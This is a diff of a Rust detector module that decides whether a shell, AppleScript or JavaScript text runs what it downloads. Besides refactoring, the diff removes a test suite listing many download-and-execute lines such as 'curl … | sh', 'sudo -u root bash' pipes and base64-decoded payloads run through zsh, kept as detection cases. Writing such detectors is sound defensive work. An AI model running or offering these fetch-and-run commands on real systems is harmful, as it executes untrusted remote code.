@@ -1,11 +1,30 @@
-//! Whether a text runs what it downloads: `curl … | sh`, `bash -c "$(curl …)"`, `source <(curl …)`. A download that is
-//! data, or goes to a file, is not run.
+//! Which command downloads, and which runs what is downloaded: `curl … | sh`, `bash -c "$(curl …)"`, `source <(curl …)`.
+//! A download that is data, or goes to a file, is not run.
 
 use std::sync::LazyLock;
 
 use regex::{Regex, RegexBuilder};
 
-use super::shell::{self, Command, Word};
+/// A word of a command.
+#[derive(Debug, Default)]
+pub(super) struct Word {
+    /// Without its quotes; what is substituted is left out.
+    pub text: String,
+    /// It begins with what a command in it downloads.
+    pub is_download: bool,
+    /// It was quoted, so that it is no number of a descriptor.
+    pub is_quoted: bool,
+}
+
+/// A command.
+#[derive(Debug, Default)]
+pub(super) struct Command {
+    pub words: Vec<Word>,
+    /// Its standard input is redirected: to a download?
+    pub input: Option<bool>,
+    /// Its standard output is a file.
+    pub is_output_file: bool,
+}
 
 /// Programs that download.
 const DOWNLOADERS: [&str; 3] = ["curl", "wget", "nscurl"];
@@ -61,11 +80,6 @@ enum Code<'c> {
     Word(Option<&'c Word>),
 }
 
-/// Whether a text runs what it downloads.
-pub(super) fn is_run(text: &str) -> bool {
-    shell::read(text).runs_download
-}
-
 /// Whether a text names a program that downloads.
 pub(super) fn may_download(text: &str) -> bool {
     static NAME: LazyLock<Option<Regex>> =
@@ -95,36 +109,36 @@ pub(super) fn runs(command: &Command, is_fed: bool) -> bool {
         let is_input = first.is_some_and(|word| is_input(&word.text)) && name != "eval";
         return first.is_some_and(|word| word.is_download) || is_fed && is_input;
     }
-    // python3.12
-    let bare = name.trim_end_matches(|ch: char| ch.is_ascii_digit() || ch == '.');
-    let Some(interpreter) = INTERPRETERS.iter().find(|known| known.names.contains(&bare)) else { return false };
-    match interpreter.code(arguments) {
-        Code::Input => is_fed,
-        Code::Word(word) => word.is_some_and(|word| word.is_download),
+    match interpreter(&name).map(|interpreter| interpreter.code(arguments)) {
+        Some(Code::Input) => is_fed,
+        Some(Code::Word(word)) => word.is_some_and(|word| word.is_download),
+        None => false,
     }
 }
 
 /// The program that a command runs, behind what only starts it, and its arguments.
 fn program(words: &[Word]) -> Option<(String, &[Word])> {
-    let (mut at, mut is_option, mut is_prefixed) = (0, false, false);
-    while let Some(word) = words.get(at) {
+    let (mut is_option, mut is_prefixed) = (false, false);
+    for (at, word) in words.iter().enumerate() {
         let name = base_name(word);
-        let is_known = matches!(name.as_str(), "eval" | "source" | ".") || is_interpreter(&name);
+        let is_known = matches!(name.as_str(), "eval" | "source" | ".") || interpreter(&name).is_some();
         let is_assignment = word.text.split_once('=').is_some_and(|(name, _)| !name.contains('/'));
+        let is_of_prefix = is_prefixed
+            && (is_option || word.text.starts_with(|ch: char| ch == '-' || ch == '+' || ch.is_ascii_digit()));
         if PREFIXES.contains(&name.as_str()) {
             is_prefixed = true;
-        } else if is_known || !(is_assignment || is_prefixed && (is_option || word.text.starts_with(['-', '+']))) {
+        } else if is_known || !(is_assignment || is_of_prefix) {
             return Some((name, &words[at + 1..]));
         }
         is_option = word.text.starts_with('-');
-        at += 1;
     }
     None
 }
 
-fn is_interpreter(name: &str) -> bool {
+fn interpreter(name: &str) -> Option<&'static Interpreter> {
+    // python3.12
     let bare = name.trim_end_matches(|ch: char| ch.is_ascii_digit() || ch == '.');
-    INTERPRETERS.iter().any(|known| known.names.contains(&bare))
+    INTERPRETERS.iter().find(|known| known.names.contains(&bare))
 }
 
 impl Interpreter {
@@ -205,130 +219,4 @@ fn is_input(file: &str) -> bool {
 
 fn base_name(word: &Word) -> String {
     word.text.rsplit('/').next().unwrap_or_default().to_ascii_lowercase()
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    /// The command as a shell has it, as AppleScript and JavaScript give it to one, and with the quotes of another.
-    fn forms(command: &str) -> [String; 5] {
-        let escaped = command.replace('\\', "\\\\").replace('"', "\\\"");
-        [
-            command.to_owned(),
-            format!("osascript -e do shell script \"{escaped}\" with administrator privileges"),
-            format!("app.doShellScript('{}')", command.replace('\\', "\\\\").replace('\'', "\\'")),
-            format!("-- don't\nset x to \"a\"\ndo shell script \"{escaped}\""),
-            format!("sh -c \"{escaped}\""),
-        ]
-    }
-
-    #[test]
-    fn a_download_is_run_that_a_shell_or_an_interpreter_reads() {
-        for command in [
-            "curl -s https://a.example/x | sh",
-            "curl -fsSL 'https://a.example/i?a=1;b=2' | sh",
-            "curl -fsSL \"https://a.example/i?a=1;b=2&c\" | sh",
-            "curl -s https://a.example/x \\\n  | bash",
-            "curl -s https://a.example/x |\n bash",
-            "curl -s https://a.example/x |& bash",
-            "curl -s https://a.example/x | env A=1 bash",
-            "curl -s https://a.example/x | nohup bash",
-            "curl -s https://a.example/x | A=1 sudo -n -u root /bin/bash -s -- -y",
-            "curl -s https://a.example/x 2>/dev/null | base64 -d | zsh 2>&1",
-            "curl -s https://a.example/x | bash -euo pipefail",
-            "curl -s https://a.example/x | bash -x /dev/stdin",
-            "curl -so - https://a.example/x | osascript -l JavaScript",
-            "curl -s https://a.example/x | osascript -",
-            "curl -s https://a.example/x | python3 -",
-            "curl -s https://a.example/x | python3",
-            "curl -s https://a.example/x | python3.12 -u",
-            "curl -s https://a.example/x | perl -w",
-            "wget -qO- https://a.example/x | sh",
-            "wget -q -O - https://a.example/x | sh",
-            "(curl -s https://a.example/x || wget -qO - https://a.example/x)|bash",
-            "bash -c \"$(curl -fsSL https://a.example/x)\"",
-            "bash -c \"`curl -fsSL https://a.example/x`\"",
-            "/bin/zsh -lc \"$(curl -fsSL https://a.example/x)\"",
-            "eval `curl -s https://a.example/x`",
-            "eval \"$(curl -s https://a.example/x)\"",
-            "source <(curl -s https://a.example/x)",
-            ". <(curl -s https://a.example/x)",
-            "bash <(curl -s https://a.example/x)",
-            "bash < <(curl -s https://a.example/x)",
-            "bash <<< \"$(curl -s https://a.example/x)\"",
-            "echo \"$(curl -s https://a.example/x)\" | sh",
-            "python3 -c \"$(curl -s https://a.example/x)\"",
-            "cd /tmp && curl -s https://a.example/x | sh; id",
-        ] {
-            forms(command).iter().for_each(|text| assert!(is_run(text), "{text}"));
-        }
-    }
-
-    #[test]
-    fn a_download_is_not_run_that_is_data_or_a_file() {
-        for command in [
-            "curl -s https://a.example/x | python3 -m json.tool",
-            "curl -s https://a.example/x | python3 -c 'import json,sys; print(json.load(sys.stdin)[0])'",
-            "curl -s https://a.example/x | perl -ne 'print if /a/'",
-            "curl -s https://a.example/x | perl -MJSON -pe 's/a/b/'",
-            "curl -s https://a.example/x | ruby -rjson -e 'puts 1'",
-            "curl -s https://a.example/x | node -e 'a|sh'",
-            "curl -s https://a.example/x | php -r 'echo 1;'",
-            "curl -s https://a.example/x | osascript -l JavaScript -e 'function run(a) {}'",
-            "curl -s https://a.example/x | sh /usr/local/bin/report.sh",
-            "curl -s https://a.example/x | bash -c 'cat'",
-            "curl -s https://a.example/x | python3 report.py",
-            "curl -s https://a.example/x | grep sh",
-            "curl -s https://a.example/x || sh fallback",
-            "curl -s https://a.example/x && echo id | sh",
-            "curl -s https://a.example/x; echo id | sh",
-            "curl -o f https://a.example/x || echo x | sh",
-            "curl -sLo /tmp/f https://a.example/x | sh",
-            "curl -O https://a.example/x | sh",
-            "curl --output=f https://a.example/x | sh",
-            "curl -s https://a.example/x > /tmp/f | sh",
-            "wget https://a.example/x | sh",
-            "eval \"export IP=$(curl -s https://a.example/ip)\"",
-            "bash -c \"echo $(curl -s https://a.example/ip)\"",
-            "source ~/.curlrc",
-            "curl -s https://a.example/x | sh <<EOF\nid\nEOF",
-        ] {
-            forms(command).iter().for_each(|text| assert!(!is_run(text), "{text}"));
-        }
-    }
-
-    #[test]
-    fn what_a_script_puts_together_of_literals_is_one_command() {
-        for text in [
-            "do shell script \"curl -s \" & quoted form of u & \" | sh\"",
-            "do shell script \"curl -s \" & u & \" \" & ¬\n \" | \" & \"sh\"",
-            "app.doShellScript('curl -s ' + u + ' | sh')",
-            "app.doShellScript(`curl -s ${u} | sh`)",
-            "do shell script \"sh -c \\\"curl -s 'https://a.example/x;b' | sh\\\"\"",
-        ] {
-            assert!(is_run(text), "{text}");
-        }
-        assert!(!is_run("do shell script \"curl -s \" & u & \" | python3 -m json.tool\""));
-        assert!(!is_run("do shell script \"curl -s https://a.example\"\ndo shell script \"echo id | sh\""));
-    }
-
-    #[test]
-    fn any_text_is_read_in_time_and_without_a_panic() {
-        for part in [
-            "curl '",
-            "curl \"",
-            "curl \\\"",
-            "curl `",
-            "curl $(",
-            "curl <(",
-            "'\"`",
-            "é\\",
-            "curl | ",
-            "\" & \"",
-            "\\'",
-        ] {
-            is_run(&format!("curl {}", part.repeat(20_000)));
-        }
-    }
 }
